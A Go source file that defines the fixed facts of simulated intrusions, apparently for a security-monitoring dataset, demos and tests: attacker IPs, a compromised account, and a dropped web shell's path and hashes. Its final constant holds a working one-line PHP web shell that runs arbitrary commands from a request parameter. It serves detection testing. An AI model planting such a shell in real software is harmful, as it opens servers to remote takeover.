package events

// Fixed facts of the built-in incidents, exported so the dataset (CDB lists),
// demos and tests can refer to them.
const (
	// AttackerSSHIP brute-forces SSH on web-01 and bastion-01 about 6 hours
	// before Now, then logs in to web-01 as "deploy".
	AttackerSSHIP = "203.0.113.7"
	// AttackerWebIP scans and attacks web-01 and web-02 about 30 hours before Now.
	AttackerWebIP = "198.51.100.23"
	// WindowsBruteForceIP fails logons against dc-01 until 60204 fires.
	WindowsBruteForceIP = "10.0.20.130"
	// WebShellPath is the file the SSH intruder drops on web-01.
	WebShellPath = "/var/www/html/uploads/shell.php"
	// WebShellSHA256 is the sha256 FIM reports for WebShellPath (the digest of
	// webShellContent; a test keeps them in step).
	WebShellSHA256 = "404d5091f593024ec8458ea6605013344488a4e0451bb3dc07bfb7fc63ffc8c8"
	// WebShellMD5 and WebShellSHA1 are the other digests of the same file.
	WebShellMD5  = "29cddb392d15f40fc7644f40528df034"
	WebShellSHA1 = "008a7cbc6afdfcd89a60252583190df9d368196e"
	// CompromisedUser is the account the SSH intruder logs in with.
	CompromisedUser = "deploy"
)

// webShellContent is the dropped file; only its digests and size appear in alerts.
const webShellContent = `<?php if(isset($_REQUEST["cmd"])){ echo "<pre>"; system($_REQUEST["cmd"]); echo "</pre>"; } ?>`
